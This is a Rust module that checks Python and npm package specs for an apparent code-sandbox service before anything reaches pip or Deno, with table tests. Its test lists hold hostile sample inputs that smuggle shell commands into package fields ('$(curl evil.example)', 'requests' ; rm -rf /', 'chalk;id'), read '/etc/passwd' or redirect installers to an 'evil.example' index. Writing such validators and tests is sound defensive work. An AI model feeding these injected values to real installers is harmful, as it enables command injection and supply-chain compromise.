//! Package specs as clients write them, checked before anything runs. Pure functions, table-tested.
//!
//! What passes is a small, safe subset of the two grammars, re-rendered in a canonical form (so what
//! reaches pip or Deno is what we parsed, byte for byte):
//! - Python: a PEP 508 name, optional extras, an optional PEP 440 version specifier
//!   (`requests`, `pandas==2.2.*`, `uvicorn[standard]>=0.30,<1`). No URLs (`@`), no environment markers
//!   (`;`), no paths, no options (a name cannot start with `-`), no `===`.
//! - JavaScript: a plain npm name, optionally scoped, with an optional version, range or tag
//!   (`chalk`, `@std/fmt@^1.0`, `lodash@4.17.21`). No URLs, no `git+`, no `file:`, no aliases (`npm:`).
//!
//! Whitespace: only ASCII spaces around the parts of a Python spec are accepted (and dropped); any other
//! whitespace or control character, anywhere, is refused.

/// The longest spec accepted, in bytes.
pub const MAX_SPEC: usize = 200;
/// The most specs in one request.
pub const MAX_SPECS: usize = 32;
/// npm's own limit for a package name.
const MAX_NPM_NAME: usize = 214;

/// Which installer a language's packages go through.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Ecosystem {
    /// pip wheels (python, python_scientific).
    Python,
    /// npm packages through Deno's `npm:` specifiers (javascript, typescript).
    Npm,
}

impl Ecosystem {
    /// The installer of a language's packages, or `None` where kernelbox cannot install any.
    pub fn of(language: &str) -> Option<Ecosystem> {
        match language {
            "python" | "python_scientific" => Some(Ecosystem::Python),
            "javascript" | "typescript" => Some(Ecosystem::Npm),
            _ => None,
        }
    }
}

/// A checked spec: its canonical text and its normalised name.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Spec {
    /// What is passed to the installer.
    pub text: String,
    /// The name, normalised (PEP 503 for Python: lowercase, runs of `-_.` as one `-`).
    pub name: String,
}

/// Checks every spec of a request; the first refusal is the error (it names the spec and why).
pub fn parse_all(ecosystem: Ecosystem, raw: &[String]) -> Result<Vec<Spec>, String> {
    if raw.is_empty() {
        return Err("`packages` is empty: name at least one package".into());
    }
    if raw.len() > MAX_SPECS {
        return Err(format!("at most {MAX_SPECS} packages per request"));
    }
    let mut specs: Vec<Spec> = Vec::new();
    for r in raw {
        let spec = match ecosystem {
            Ecosystem::Python => parse_python(r),
            Ecosystem::Npm => parse_npm(r),
        }?;
        if !specs.iter().any(|s| s.text == spec.text) {
            specs.push(spec);
        }
    }
    Ok(specs)
}

fn refuse(raw: &str, why: &str) -> String {
    let shown: String = raw.chars().take(60).flat_map(char::escape_default).collect();
    format!("package spec \"{shown}\" is refused: {why}")
}

fn common_checks(raw: &str) -> Result<(), String> {
    if raw.len() > MAX_SPEC {
        return Err(refuse(raw, &format!("longer than {MAX_SPEC} bytes")));
    }
    if raw.chars().any(|c| c != ' ' && (c.is_whitespace() || c.is_control())) {
        return Err(refuse(raw, "whitespace other than spaces, or a control character"));
    }
    if !raw.is_ascii() {
        return Err(refuse(raw, "only ASCII is accepted in package specs"));
    }
    Ok(())
}

fn is_alnum(b: u8) -> bool {
    b.is_ascii_alphanumeric()
}

/// A PEP 508 name: letters and digits, with `.`, `-`, `_` inside.
fn python_name_ok(name: &str) -> bool {
    let b = name.as_bytes();
    !b.is_empty()
        && is_alnum(b[0])
        && is_alnum(b[b.len() - 1])
        && b.iter().all(|&c| is_alnum(c) || c == b'.' || c == b'-' || c == b'_')
}

/// PEP 503 normalisation.
pub fn normalize_python_name(name: &str) -> String {
    let mut out = String::with_capacity(name.len());
    let mut sep = false;
    for c in name.chars() {
        if matches!(c, '-' | '_' | '.') {
            sep = true;
        } else {
            if sep && !out.is_empty() {
                out.push('-');
            }
            sep = false;
            out.push(c.to_ascii_lowercase());
        }
    }
    out
}

/// A PEP 440 version, loosely: starts with a digit, then digits, letters, `.`, `!`, `+`, `-`, `_`.
fn version_ok(v: &str) -> bool {
    let b = v.as_bytes();
    !b.is_empty()
        && b[0].is_ascii_digit()
        && b.iter().all(|&c| is_alnum(c) || matches!(c, b'.' | b'!' | b'+' | b'-' | b'_'))
}

const OPERATORS: &[&str] = &["~=", "==", "!=", "<=", ">=", "<", ">"];

fn parse_clause(clause: &str) -> Result<String, &'static str> {
    let clause = clause.trim_matches(' ');
    if clause.starts_with("===") {
        return Err("`===` (arbitrary equality) is not accepted");
    }
    let op = OPERATORS.iter().find(|op| clause.starts_with(**op)).ok_or("a version clause needs an operator")?;
    let version = clause[op.len()..].trim_start_matches(' ');
    let (base, wildcard) = match version.strip_suffix(".*") {
        Some(base) => (base, true),
        None => (version, false),
    };
    if wildcard && !matches!(*op, "==" | "!=") {
        return Err("a `.*` version is only accepted with == and !=");
    }
    if !version_ok(base) || (wildcard && base.contains('+')) {
        return Err("not a version (PEP 440)");
    }
    Ok(format!("{op}{version}"))
}

/// One Python spec.
pub fn parse_python(raw: &str) -> Result<Spec, String> {
    common_checks(raw)?;
    let s = raw.trim_matches(' ');
    if s.is_empty() {
        return Err(refuse(raw, "empty"));
    }
    if s.starts_with('-') {
        return Err(refuse(raw, "options are not accepted, only package names"));
    }
    for (c, why) in [
        ('@', "URLs and direct references are not accepted"),
        (';', "environment markers are not accepted"),
        ('/', "paths and URLs are not accepted"),
        ('\\', "paths are not accepted"),
        ('#', "comments are not accepted"),
        ('$', "shell or environment syntax is not accepted"),
        ('`', "shell syntax is not accepted"),
        ('\'', "quotes are not accepted"),
        ('"', "quotes are not accepted"),
    ] {
        if s.contains(c) {
            return Err(refuse(raw, why));
        }
    }
    let name_end = s.find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'))).unwrap_or(s.len());
    let name = &s[..name_end];
    if !python_name_ok(name) {
        return Err(refuse(raw, "not a package name (PEP 508: letters, digits, and . - _ inside)"));
    }
    let mut rest = s[name_end..].trim_start_matches(' ');
    let mut text = name.to_owned();
    if let Some(after) = rest.strip_prefix('[') {
        let close = after.find(']').ok_or_else(|| refuse(raw, "unclosed extras `[`"))?;
        let extras: Vec<&str> = after[..close].split(',').map(|e| e.trim_matches(' ')).collect();
        if extras.iter().any(|e| !python_name_ok(e)) {
            return Err(refuse(raw, "an extra is not a name"));
        }
        text.push('[');
        text.push_str(&extras.join(","));
        text.push(']');
        rest = after[close + 1..].trim_start_matches(' ');
    }
    if !rest.is_empty() {
        if let Some(inner) = rest.strip_prefix('(') {
            rest = inner.strip_suffix(')').ok_or_else(|| refuse(raw, "unbalanced parentheses"))?;
        }
        let clauses: Result<Vec<String>, _> = rest.split(',').map(parse_clause).collect();
        text.push_str(&clauses.map_err(|why| refuse(raw, why))?.join(","));
    }
    Ok(Spec { name: normalize_python_name(name), text })
}

/// An npm name part (scope or name): lowercase letters, digits, and `-`, `.`, `_`, `~` inside.
fn npm_part_ok(part: &str) -> bool {
    let b = part.as_bytes();
    !b.is_empty()
        && (b[0].is_ascii_lowercase() || b[0].is_ascii_digit())
        && b.iter().all(|&c| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, b'-' | b'.' | b'_' | b'~'))
}

/// An npm version, range or dist-tag without spaces: `1.2.3`, `^1.2`, `~1`, `>=1.2.0`, `1.x`, `latest`.
fn npm_version_ok(v: &str) -> bool {
    let b = v.as_bytes();
    !b.is_empty()
        && b.len() <= 64
        && b.iter().all(|&c| is_alnum(c) || matches!(c, b'.' | b'-' | b'+' | b'^' | b'~' | b'<' | b'>' | b'=' | b'*'))
        && (b.iter().any(|c| c.is_ascii_digit() || *c == b'*') || b[0].is_ascii_lowercase())
}

/// One npm spec.
pub fn parse_npm(raw: &str) -> Result<Spec, String> {
    common_checks(raw)?;
    if raw.contains(' ') {
        return Err(refuse(raw, "spaces are not accepted in npm specs"));
    }
    if raw.is_empty() {
        return Err(refuse(raw, "empty"));
    }
    if raw.starts_with('-') {
        return Err(refuse(raw, "options are not accepted, only package names"));
    }
    if raw.contains(':') {
        return Err(refuse(raw, "URLs, `npm:`, `file:` and `git+` specs are not accepted, only registry names"));
    }
    let (scope, rest) = match raw.strip_prefix('@') {
        Some(r) => {
            let (scope, rest) = r.split_once('/').ok_or_else(|| refuse(raw, "a scope needs a name: @scope/name"))?;
            (Some(scope), rest)
        }
        None => (None, raw),
    };
    let (name, version) = match rest.split_once('@') {
        Some((n, v)) => (n, Some(v)),
        None => (rest, None),
    };
    if scope.is_some_and(|s| !npm_part_ok(s)) || !npm_part_ok(name) || name.contains('/') {
        return Err(refuse(raw, "not an npm package name (lowercase letters, digits, - . _ ~; @scope/name)"));
    }
    let full = match scope {
        Some(s) => format!("@{s}/{name}"),
        None => name.to_owned(),
    };
    if full.len() > MAX_NPM_NAME {
        return Err(refuse(raw, "npm names are at most 214 characters"));
    }
    if version.is_some_and(|v| !npm_version_ok(v)) {
        return Err(refuse(raw, "not an npm version, range or tag"));
    }
    let text = match version {
        Some(v) => format!("{full}@{v}"),
        None => full.clone(),
    };
    Ok(Spec { text, name: full })
}

/// Whether `name` is a wheel file name (`{dist}-{version}(-{build})?-{python}-{abi}-{platform}.whl`)
/// that is safe as a plain file name in the cache directory.
pub fn is_wheel_filename(name: &str) -> bool {
    let Some(stem) = name.strip_suffix(".whl") else {
        return false;
    };
    let parts = stem.split('-').count();
    name.len() <= 255
        && !name.starts_with('.')
        && (parts == 5 || parts == 6)
        && stem.split('-').all(|p| !p.is_empty())
        && name.bytes().all(|c| is_alnum(c) || matches!(c, b'.' | b'_' | b'-' | b'+' | b'!'))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Each `(raw, text, name)`: `parse` accepts `raw` as the canonical `text` with the normalised `name`.
    fn accepted(parse: fn(&str) -> Result<Spec, String>, table: &[(&str, &str, &str)]) {
        for &(raw, text, name) in table {
            let spec = parse(raw).unwrap_or_else(|e| panic!("{raw:?}: {e}"));
            assert_eq!((spec.text.as_str(), spec.name.as_str()), (text, name), "{raw:?}");
        }
    }

    /// `parse` refuses every one of `raws`.
    fn refused(parse: fn(&str) -> Result<Spec, String>, raws: &[&str]) {
        for raw in raws {
            assert!(parse(raw).is_err(), "{raw:?} must be refused");
        }
    }

    #[test]
    fn python_specs_that_are_accepted_come_out_canonical() {
        let table = [
            ("requests", "requests", "requests"),
            ("six", "six", "six"),
            ("pandas==2.2.*", "pandas==2.2.*", "pandas"),
            ("  pandas == 2.2.3 ", "pandas==2.2.3", "pandas"),
            ("uvicorn[standard]>=0.30,<1", "uvicorn[standard]>=0.30,<1", "uvicorn"),
            ("uvicorn [ standard , dev ] >= 0.30", "uvicorn[standard,dev]>=0.30", "uvicorn"),
            ("Django~=5.0", "Django~=5.0", "django"),
            ("zope.interface!=6.0", "zope.interface!=6.0", "zope-interface"),
            ("typing_extensions>=4.0.0rc1", "typing_extensions>=4.0.0rc1", "typing-extensions"),
            ("numpy(>=1.26)", "numpy>=1.26", "numpy"),
            ("torch==2.3.0+cpu", "torch==2.3.0+cpu", "torch"),
            ("a", "a", "a"),
        ];
        accepted(parse_python, &table);
    }

    /// Every spec here is refused: none may reach pip.
    pub const MALICIOUS_PYTHON: &[&str] = &[
        "",
        " ",
        "-r/etc/passwd",
        "--index-url=http://evil.example/simple",
        "--extra-index-url http://evil.example",
        "-e.",
        "requests @ https://evil.example/r.whl",
        "requests@https://evil.example/r.whl",
        "https://evil.example/pkg.tar.gz",
        "git+https://evil.example/x.git",
        "./local_dir",
        "/etc/passwd",
        "../x",
        "..\\x",
        "file:///etc/passwd",
        "requests; python_version>'3'",
        "requests;os_name=='posix'",
        "requests\n--index-url=http://evil",
        "requests\t",
        "requests\r",
        "requests\u{a0}",
        "requests\u{2003}==1",
        "reqüests",
        "requests\0",
        "$(curl evil.example)",
        "`id`",
        "requests==$VERSION",
        "requests' ; rm -rf /",
        "requests\"",
        "requests # comment",
        "requests==",
        "requests==1.0 2.0",
        "requests===1.0",
        "requests>=1.*",
        "requests==abc",
        "requests[",
        "requests[sec urity]",
        "requests[-x]",
        "_private",
        "requests.",
        "re quests",
        "requests==1.0,",
    ];

    #[test]
    fn malicious_python_specs_are_refused() {
        refused(parse_python, MALICIOUS_PYTHON);
        assert!(parse_python(&"a".repeat(MAX_SPEC + 1)).is_err(), "over-long");
        assert!(parse_python(&"a".repeat(MAX_SPEC)).is_ok());
        let message = parse_python("requests @ https://x").unwrap_err();
        assert!(message.contains("URLs") && message.contains("requests"), "{message}");
    }

    #[test]
    fn npm_specs_that_are_accepted() {
        let table = [
            ("chalk", "chalk", "chalk"),
            ("lodash@4.17.21", "lodash@4.17.21", "lodash"),
            ("@std/fmt@^1.0", "@std/fmt@^1.0", "@std/fmt"),
            ("left-pad@~1.3", "left-pad@~1.3", "left-pad"),
            ("react@>=18.2.0", "react@>=18.2.0", "react"),
            ("zod@latest", "zod@latest", "zod"),
            ("date-fns@3.x", "date-fns@3.x", "date-fns"),
        ];
        accepted(parse_npm, &table);
    }

    /// Every spec here is refused: none may reach Deno.
    const MALICIOUS_NPM: &[&str] = &[
        "",
        "--registry=http://evil.example",
        "-g",
        "npm:evil@1",
        "file:../x",
        "git+https://evil.example/x.git",
        "https://evil.example/x.tgz",
        "github:user/repo",
        "Chalk",
        "chalk@1 || 2",
        "chalk@ 1",
        "@scope",
        "@scope/",
        "@/name",
        "a/b",
        "../x",
        "chalk@$(id)",
        "chalk;id",
        "chalk\n",
        "chalk@1.0.0\t",
        ".hidden",
        "_private",
        "chalk@",
    ];

    #[test]
    fn malicious_npm_specs_are_refused() {
        refused(parse_npm, MALICIOUS_NPM);
        assert!(parse_npm(&"a".repeat(MAX_NPM_NAME + 1)).is_err());
    }

    #[test]
    fn requests_are_checked_whole() {
        let specs = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        assert!(parse_all(Ecosystem::Python, &[]).is_err());
        assert!(parse_all(Ecosystem::Python, &specs(&["six", "--pre"])).is_err(), "one bad spec refuses all");
        let ok = parse_all(Ecosystem::Python, &specs(&["six", "six", "orjson"])).unwrap();
        assert_eq!(ok.len(), 2, "duplicates dropped");
        assert!(parse_all(Ecosystem::Python, &vec!["six".to_owned(); MAX_SPECS + 1]).is_err());
        assert_eq!(Ecosystem::of("typescript"), Some(Ecosystem::Npm));
        assert_eq!(Ecosystem::of("java"), None);
        assert_eq!(Ecosystem::of("bash"), None);
    }

    #[test]
    fn wheel_filenames_are_recognised() {
        for ok in [
            "six-1.17.0-py2.py3-none-any.whl",
            "orjson-3.13.0-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
            "pkg-1.0-1-py3-none-any.whl",
        ] {
            assert!(is_wheel_filename(ok), "{ok}");
        }
        for bad in [
            "../six-1.17.0-py2.py3-none-any.whl",
            "a/six-1.17.0-py2.py3-none-any.whl",
            ".six-1.17.0-py2.py3-none-any.whl",
            "six-1.17.0.tar.gz",
            "six.whl",
            "six-1.17.0-py3-none-any.whl.tmp",
            "six--1.17.0-py3-none-any.whl",
            "six-1.17.0-py3-none-any\n.whl",
            "",
        ] {
            assert!(!is_wheel_filename(bad), "{bad:?}");
        }
    }
}
